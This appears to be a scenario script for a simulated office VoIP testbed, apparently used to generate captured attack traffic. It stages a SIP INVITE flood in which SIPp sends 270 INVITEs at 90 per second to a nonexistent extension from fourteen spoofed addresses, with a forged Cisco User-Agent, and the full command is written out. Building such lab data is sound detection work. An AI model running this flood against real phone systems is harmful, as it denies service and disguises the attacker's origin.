# A flood of INVITEs under fourteen addresses outside, for an extension that has no phone.
relocate example.com 5060 172.19.44 203.0.113 100.64.77
EXTENSIONS=(701 702 703 704 705 706)
EXISTING='^7[0-1][0-9]$'
WEAK=none
open_office
add_attacker spoofer 100.64.77.3
spoof spoofer 100.64.77.{150..163}
start_office_capture
keep_alive 8
office_day 410 52
sed 's/User-Agent: .*/User-Agent: Cisco-CP7841\/12.1/' "$parts/sipp/flood-spoofed.xml" >"$scratch/flood.xml"
at 22 attack A1 invite_flood spoofer 5060 "SIPp sends 270 INVITEs, 90 a second, for 715, which has no phone, under fourteen addresses that are not its own." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/flood.xml" -nostdin -default_behaviors none \
    -t ui -max_socket 500 -ip_field 0 -inf "$scratch/sources.csv" -cid_str "%u-%p" -i 100.64.77.3 -mi 100.64.77.3 -p 5060 \
    -s 715 -r 90 -m 270 172.19.44.1:5060
play
wait_for A1
close_office
